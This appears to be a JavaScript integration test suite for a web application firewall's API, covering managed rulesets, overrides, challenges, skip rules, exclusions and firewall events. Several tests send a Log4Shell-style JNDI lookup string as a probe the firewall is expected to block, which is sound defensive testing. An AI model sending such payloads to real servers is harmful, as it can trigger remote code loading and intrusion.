// SPDX-License-Identifier: Apache-2.0
// The firewall engine over the API: managed rulesets and what overrides them, exclusions, events.
import fs from 'node:fs'
import path from 'node:path'
import { scene, eq, ok, waitFor } from '../lib/scene.mjs'
import { edgeWithApi } from '../lib/api.mjs'
import { hidden, solve } from '../lib/puzzle.mjs'

const OWASP = '4814384a9e5d4991b9815dcfc25d2f1f'; const BREACHES = 'efb7b8c949ac4650a09736fc376e9aee'; const SCORE = '6179ae15870a4bb7b2d480d4843b323c'
// A small rule set with the shape of the Core Rule Set: levels, scores, one rule that decides.
const RULES = `
SecAction "id:900001,phase:1,pass,nolog,setvar:tx.inbound_anomaly_score_threshold=5,setvar:tx.paranoia_level=1"
SecRule TX:PARANOIA_LEVEL "@lt 1" "id:911011,phase:2,pass,nolog,skipAfter:END-1"
SecRule ARGS "@contains evil" "id:911100,phase:2,pass,log,severity:CRITICAL,tag:'attack-evil',msg:'Evil',setvar:tx.anomaly_score=+5"
SecRule ARGS "@contains bad" "id:911110,phase:2,pass,log,severity:WARNING,tag:'attack-bad',msg:'Bad',setvar:tx.anomaly_score=+3"
SecRule TX:PARANOIA_LEVEL "@lt 2" "id:911012,phase:2,pass,nolog,skipAfter:END-1"
SecRule ARGS "@contains odd" "id:911200,phase:2,pass,log,severity:CRITICAL,tag:'attack-odd',msg:'Odd',setvar:tx.anomaly_score=+5"
SecMarker END-1
SecRule TX:ANOMALY_SCORE "@ge %{tx.inbound_anomaly_score_threshold}" "id:949110,phase:2,deny,status:403,log,severity:CRITICAL,msg:'Inbound Anomaly Score Exceeded (Total Score: %{TX.ANOMALY_SCORE})'"
`

async function nodeWithZone (s) {
  const dir = s.folder()
  fs.chmodSync(dir, 0o755)
  fs.writeFileSync(path.join(dir, 'rules.conf'), RULES)
  const app = await s.origin((q, reply) => reply.send(200, {}, 'app'))
  const edge = await edgeWithApi(s, { config: { waf: { rules: path.join(dir, 'rules.conf') } } })
  const z = await edge.api.post('/zones', { name: 'shop.test' })
  const [address, port] = app.address.split(':')
  await edge.api.post(`/zones/${z.id}/dns_records`, { type: 'A', name: 'www.shop.test', content: address, proxied: true })
  const base = `/zones/${z.id}`
  await edge.api.must('PUT', `${base}/rulesets/phases/http_request_origin/entrypoint`, { rules: [{ action: 'route', expression: 'true', action_parameters: { origin: { port: Number(port) } } }] })
  const managed = rules => edge.api.must('PUT', `${base}/rulesets/phases/http_request_firewall_managed/entrypoint`, { rules })
  const get = (target, headers = {}, from = undefined) => edge.get(target, { host: 'www.shop.test', headers: { Host: 'www.shop.test', ...headers }, ...from && { from } })
  return { edge, api: edge.api, base, managed, get }
}
const execute = (id, overrides, more = {}) => ({ action: 'execute', expression: 'true', action_parameters: { id, ...overrides && { overrides } }, ...more })

scene('managed rulesets are executed by rules, with overrides by ruleset, category and rule', async s => {
  const { api, base, managed, get, edge } = await nodeWithZone(s)
  const status = async target => (await get(target)).status
  eq(await status('/?a=evil'), 200)
  await managed([execute(OWASP)])
  eq([await status('/?a=evil'), await status('/?a=bad'), await status('/?a=odd'), await status('/?a=x'), await status('/?x=$%7Bjndi:ldap://h/%7D')], [403, 200, 200, 200, 200])
  const line = await edge.logged({ ray: (await get('/?a=evil')).get('cf-ray') })
  eq(line.waf, { action: 'block', score: 5, rules: [911100, 949110] })
  eq(line.rules.map(r => [r.phase, r.action]), [['http_request_origin', 'route'], ['http_request_firewall_managed', 'execute']])
  await managed([execute(OWASP, { categories: [{ category: 'paranoia-level-2', enabled: true }] }), execute(BREACHES)])
  eq([await status('/?a=odd'), await status('/?x=$%7Bjndi:ldap://h/%7D')], [403, 403])
  await managed([execute(OWASP, { rules: [{ id: SCORE, score_threshold: 3 }] })])
  eq([await status('/?a=bad'), await status('/?a=x')], [403, 200])
  await managed([execute(OWASP, { rules: [{ id: SCORE, action: 'log' }] }), execute(BREACHES)]) // one detects, the other enforces
  eq([await status('/?a=evil'), await status('/?x=$%7Bjndi:ldap://h/%7D')], [200, 403])
  eq((await edge.logged({ ray: (await get('/?a=evil')).get('cf-ray') })).waf.action, 'detect')
  const rules = (await api.get(`${base}/rulesets/${OWASP}`)).rules
  const evil = rules.find(r => r.ref === '911100')
  eq([evil.description, evil.categories, rules.some(r => r.ref === '900001')], ['Evil', ['attack-evil'], false])
  await managed([execute(OWASP, { rules: [{ id: evil.id, enabled: false }] })])
  eq([await status('/?a=evil'), await status('/?a=evil&b=bad&c=bad')], [200, 403])
  await managed([execute(OWASP, { categories: [{ category: 'attack-evil', action: 'log' }] })])
  eq([await status('/?a=evil'), (await edge.logged({ ray: (await get('/?a=evil')).get('cf-ray') })).waf.rules], [200, [911100]])
  await managed([execute(OWASP, { enabled: false, categories: [{ category: 'attack-bad', enabled: true }], rules: [{ id: SCORE, score_threshold: 3 }] })])
  eq((await api.get(`${base}/rulesets`)).filter(r => r.kind === 'managed').length, 2)
})

scene('a rule that would refuse challenges instead; who passed it goes on, for that node and that address only', async s => {
  const { managed, get, edge } = await nodeWithZone(s)
  for (const [what, overrides, target] of [['the whole', { action: 'managed_challenge' }, '/?a=evil'], ['the score', { rules: [{ id: SCORE, action: 'js_challenge' }] }, '/?a=evil'], ['a breach', null, '/?x=$%7Bjndi:ldap://h/%7D']]) {
    await managed(overrides ? [execute(OWASP, overrides), execute(BREACHES)] : [execute(OWASP), execute(BREACHES, { action: 'challenge' })])
    const r = await get(target)
    eq([r.status, r.get('cf-mitigated')], [403, 'challenge'], what)
    eq((await edge.logged({ ray: r.get('cf-ray') })).waf.action, 'managed_challenge', what)
    eq((await get('/?a=x')).status, 200, what)
    const puzzle = hidden(r.text, 'p')
    const passed = await get(`/cdn-cgi/challenge-platform/verify?p=${puzzle}&a=${solve(puzzle)}&u=${encodeURIComponent(hidden(r.text, 'u'))}`)
    eq(passed.status, 303, what)
    const cookie = passed.get('set-cookie').split(';')[0]
    eq((await get(target, { Cookie: cookie })).status, 200, what)
    eq((await get(target, { Cookie: cookie }, '127.0.0.9')).status, 403, what)
  }
  // the other set still refuses who has passed
  await managed([execute(OWASP, { action: 'managed_challenge' }), execute(BREACHES)])
  const r = await get('/?x=$%7Bjndi:ldap://h/%7D')
  eq([r.status, r.get('cf-mitigated')], [403, undefined])
})

scene('exceptions are skip rules, and address rules and custom rules let pass', async s => {
  const { api, base, managed, get } = await nodeWithZone(s)
  const status = async target => (await get(target)).status
  const skip = (expression, action_parameters) => ({ action: 'skip', expression, action_parameters })
  await managed([skip('http.request.uri.path eq "/all"', { ruleset: 'current' }), skip('http.request.uri.path eq "/set"', { rulesets: [OWASP] }),
    skip('http.request.uri.path eq "/one"', { rules: { [OWASP]: ['5ea0a11000004000a0000000' + (911100).toString(16).padStart(8, '0')] } }), execute(OWASP)])
  eq([await status('/?a=evil'), await status('/all?a=evil'), await status('/set?a=evil'), await status('/one?a=evil'), await status('/one?a=bad&b=bad')], [403, 200, 200, 200, 403])
  await api.must('PUT', `${base}/rulesets/phases/http_request_firewall_custom/entrypoint`, { rules: [
    skip('http.request.uri.path eq "/p"', { phases: ['http_request_firewall_managed'] }), skip('http.request.uri.path eq "/q"', { products: ['waf'] })] })
  eq([await status('/p?a=evil'), await status('/q?a=evil'), await status('/r?a=evil')], [200, 200, 403])
  await api.post(`${base}/firewall/access_rules/rules`, { mode: 'whitelist', configuration: { target: 'ip', value: '127.0.0.1' } })
  eq(await status('/?a=evil'), 200)
})

scene('what is wrong in the managed phase is refused with the member', async s => {
  const { api, base } = await nodeWithZone(s)
  const put = rule => api.refused('PUT', `${base}/rulesets/phases/http_request_firewall_managed/entrypoint`, { rules: [rule] })
  for (const [rule, pointer] of [
    [execute('0'.repeat(32)), '/rules/0/action_parameters/id'],
    [execute(OWASP, { sensitivity_level: 'low' }), '/rules/0/action_parameters/overrides/sensitivity_level'],
    [execute(OWASP, { rules: [{ id: 'f'.repeat(32) }] }), '/rules/0/action_parameters/overrides/rules/0/id'],
    [execute(OWASP, { rules: [{ id: SCORE, score_threshold: 0 }] }), '/rules/0/action_parameters/overrides/rules/0/score_threshold'],
    [execute(OWASP, { action: 'redirect' }), '/rules/0/action_parameters/overrides/action'],
    [{ action: 'skip', expression: 'true', action_parameters: { rulesets: ['x'] } }, '/rules/0/action_parameters/rulesets/0'],
    [{ action: 'block', expression: 'true' }, '/rules/0/action']
  ]) eq([(await put(rule)).pointer], [pointer])
})

scene('exclusions are objects of the zone; events say what was found', async s => {
  const { api, base, managed, get } = await nodeWithZone(s)
  await managed([execute(OWASP)])
  const r = await get('/editor?text=evil')
  eq(r.status, 403)
  const [event] = await waitFor(async () => { const l = await api.get(`${base}/firewall/events?ray=${r.get('cf-ray')}`); return l.length && l }, { what: 'the event' })
  eq([event.action, event.path, event.score, event.matches.map(m => [m.rule, m.variable, m.value])],
    ['block', '/editor', 5, [[911100, 'ARGS:text', 'evil'], [949110, 'TX:anomaly_score', '5']]])
  eq([(await api.get(`${base}/security/events?rule=911100&action=block`)).length, (await api.get(`${base}/firewall/events?rule=1`)).length], [1, 0])
  const x = await api.post(`${base}/firewall/waf/exclusions`, { rule: 911100, path: '/editor', parameter: 'ARGS:text', description: 'the editor' })
  eq([(await get('/editor?text=evil')).status, (await get('/editor?other=evil')).status, (await get('/else?text=evil')).status], [200, 403, 403])
  eq((await api.get(`${base}/firewall/waf/exclusions`)).map(v => v.id), [x.id])
  eq((await api.refused('POST', `${base}/firewall/waf/exclusions`, { path: '/x' })).status, 400)
  eq((await api.refused('POST', `${base}/firewall/waf/exclusions`, { rule: 1, parameter: 'NOPE:x' })).pointer, '/parameter')
  await api.must('DELETE', `${base}/firewall/waf/exclusions/${x.id}`)
  eq((await get('/editor?text=evil')).status, 403)
  const said = await api.seawall('waf', 'explain', r.get('cf-ray'))
  ok(said.status === 0 && said.out.includes('911100') && said.out.includes('ARGS:text'), JSON.stringify(said))
  await get('/editor?text=evil&title=evil')
  await waitFor(async () => (await api.get(`${base}/firewall/events`)).filter(e => e.path === '/editor').length >= 4, { what: 'the events' })
  const proposed = await api.seawall('waf', 'exclude', r.get('cf-ray'))
  ok(proposed.status === 0 && /exclude +rule 911100, path \/editor, parameter ARGS:text/.test(proposed.out) && /would change/.test(proposed.out), JSON.stringify(proposed))
  eq((await get('/editor?text=evil')).status, 403) // shown, not saved
  const saved = await api.seawall('waf', 'exclude', r.get('cf-ray'), '--apply')
  ok(saved.status === 0 && /excluded: rule 911100/.test(saved.out), JSON.stringify(saved))
  eq([(await get('/editor?text=evil')).status, (await get('/editor?title=evil')).status], [200, 403])
})

scene('known breaches are refused in a new zone, until its setting waf or a managed rule says otherwise', async s => {
  const { api, base, managed, get } = await nodeWithZone(s)
  const probe = async () => (await get('/?q=' + encodeURIComponent('${jndi:ldap://x.test/a}'))).status
  eq([await probe(), (await get('/?q=ordinary')).status, (await api.get(`${base}/settings/waf`)).value], [403, 200, 'on'])
  await api.must('PATCH', `${base}/settings/waf`, { value: 'off' })
  eq(await probe(), 200)
  await api.must('PATCH', `${base}/settings/waf`, { value: 'on' })
  eq(await probe(), 403)
  await managed([{ action: 'skip', expression: 'http.request.uri.path eq "/"', action_parameters: { ruleset: 'current' } }])
  eq(await probe(), 200)
})

scene('events outlive control', async s => {
  const { api, base, get, edge } = await nodeWithZone(s)
  const probe = () => get('/?q=' + encodeURIComponent('${jndi:ldap://x.test/a}'))
  const rays = [(await probe()).get('cf-ray'), (await probe()).get('cf-ray')]
  const events = () => api.get(`${base}/firewall/events`)
  await waitFor(async () => (await events()).length === 2, { what: 'the events' })
  const control = () => edge.processes().find(pid => {
    try { return fs.readFileSync(`/proc/${pid}/comm`, 'utf8').trim() === 'seawall-control' } catch { return false }
  })
  const before = control()
  process.kill(before, 'SIGTERM')
  const kept = await waitFor(async () => { try { return control() !== before && await events() } catch { return false } }, { within: 30000, what: 'control to be back' })
  eq(kept.map(e => [e.ray, e.seq]), [[rays[1], 2], [rays[0], 1]])
  const third = (await probe()).get('cf-ray')
  await waitFor(async () => (await events())[0]?.ray === third, { within: 30000, what: 'an event after it' })
  eq((await events()).map(e => e.seq), [3, 2, 1])
})
